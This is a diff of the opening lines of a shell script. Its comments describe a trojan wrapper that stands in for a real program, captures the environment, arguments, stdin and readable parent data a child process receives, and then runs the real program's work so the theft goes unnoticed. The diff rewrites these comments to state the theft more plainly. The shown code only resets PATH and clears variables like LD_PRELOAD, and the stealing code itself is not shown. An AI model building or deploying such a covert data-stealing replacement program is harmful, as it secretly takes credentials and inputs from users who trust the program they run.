@@ -1,6 +1,6 @@
 #!/bin/sh
-# Takes what a child of a program gets: environment, arguments, stdin, and what it can read of its parent. Then does the
-# work of the program in whose place it stands, so that nobody notices.
+# Takes the data that a child of a program gets: environment, arguments, stdin, and the readable data of its parent.
+# Then does the work of the replaced program, so that the theft goes unnoticed.
 PATH=/usr/bin:/bin
 unset BASH_ENV ENV LD_PRELOAD PERL5OPT GIT_EXTERNAL_DIFF
 {
